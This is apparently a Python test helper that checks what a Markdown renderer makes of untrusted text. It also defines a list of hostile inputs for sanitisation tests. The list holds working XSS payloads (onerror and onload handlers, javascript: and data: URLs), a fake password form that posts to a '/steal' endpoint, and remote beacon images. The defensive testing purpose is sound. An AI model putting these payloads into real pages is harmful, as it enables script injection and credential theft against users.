"""What a Markdown renderer would make of a text: raw HTML, images, links (README "Security").

Shared by the pure tests of :mod:`citecal._markup` and the ones against the
Argilla stack; markdown-it-py (a citecal dependency) is the CommonMark parser.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from html.parser import HTMLParser

from markdown_it import MarkdownIt
from markdown_it.token import Token

_MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
UNSAFE_TOKENS = {"html_block", "html_inline", "image", "link_open"}
REMOTE_IMAGE = re.compile(r"!\[[^\]]*\]\(\s*<?(?:https?:)?//", re.IGNORECASE)
CODE_SPAN = re.compile(r"(?<!\\)`[^`\\\n]*`")
"""A code span as :func:`citecal._markup.md_code` writes them (no backslash, no backtick inside)."""
BARE_LINK = re.compile(r"\b(?:https?://|www\.)", re.IGNORECASE)

HOSTILE: tuple[str, ...] = (
    '<object data="http://127.0.0.2:9/o.html" width=800></object>',
    '<object data="javascript:alert(document.domain)"></object>',
    '<embed src="http://127.0.0.2:9/e.swf">',
    "<img src=x onerror=alert(1)>",
    '<form action="http://127.0.0.2:9/steal"><input name=password type=password>'
    "<button>Sign in again</button></form>",
    "<style>body{background:url(http://127.0.0.2:9/css)}</style>",
    "<script>fetch('http://127.0.0.2:9/s')</script>",
    "![beacon](http://127.0.0.2:9/beacon.png)",
    '![ref][r]\n\n[r]: http://127.0.0.2:9/ref.png "t"',
    "[click me](javascript:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[d](data:text/html,<script>alert(1)</script>)",
    "<http://127.0.0.2:9/autolink> and <mailto:a@b.c> and www.example.com/x http://127.0.0.2:9/bare",
    "&lt;object data=x&gt; &#60;img src=x onerror=alert(1)&#62; &amp;",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "````\n```\n<img src=x onerror=alert(1)>\n```\n````",
    "`` ` <img src=x onerror=alert(1)> ` ``",
    "    <img src=x onerror=alert(1)> (indented: a code block if left as is)",
    "a | <b>b</b>\n---|---\n<i>1</i> | 2",
    "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{http://127.0.0.2:9/k.png}$$",
    "\\<img src=x onerror=alert(1)> (a backslash of its own)",
    "line one\r\n<iframe src=http://127.0.0.2:9/f></iframe>\rline three",
    "<!-- comment --><svg onload=alert(1)><![CDATA[x]]><?php x ?>",
)
"""Hostile strings a report, a repository or a judge could put in front of an annotator."""


def _walk(tokens: Iterable[Token]) -> Iterable[Token]:
    for t in tokens:
        yield t
        if t.children:
            yield from _walk(t.children)


def unsafe_markup(markdown: str) -> list[str]:
    """Raw HTML, images and links that rendering ``markdown`` makes.

    Besides CommonMark's tokens: remote image syntax and the bare URLs GitHub's
    and Argilla's renderers turn into links, outside code blocks and code spans.
    """
    tokens = _MD.parse(markdown)
    found = [f"{t.type}: {t.content or t.attrs}" for t in _walk(tokens) if t.type in UNSAFE_TOKENS]
    lines = markdown.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    for t in tokens:
        if t.type in ("fence", "code_block") and t.map:
            lines[t.map[0] : t.map[1]] = [""] * (t.map[1] - t.map[0])
    prose = CODE_SPAN.sub("", "\n".join(lines))
    found += [f"remote image: {m.group()}" for m in REMOTE_IMAGE.finditer(prose)]
    found += [f"bare link: {m.group()}" for m in BARE_LINK.finditer(prose)]
    return found


def rendered_text(markdown: str) -> str:
    """The characters a reader sees: text, code, line breaks and blank lines between paragraphs."""
    out: list[str] = []
    for t in _walk(_MD.parse(markdown)):
        if t.type in ("text", "code_inline", "html_inline"):
            out.append(t.content)
        elif t.type in ("softbreak", "hardbreak"):
            out.append("\n")
        elif t.type == "paragraph_close":
            out.append("\n\n")
    return re.sub(r"\n{3,}", "\n\n", "".join(out)).strip("\n")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def html_elements(text: str) -> list[str]:
    """Elements a browser would make of ``text`` set as ``innerHTML``."""
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.tags
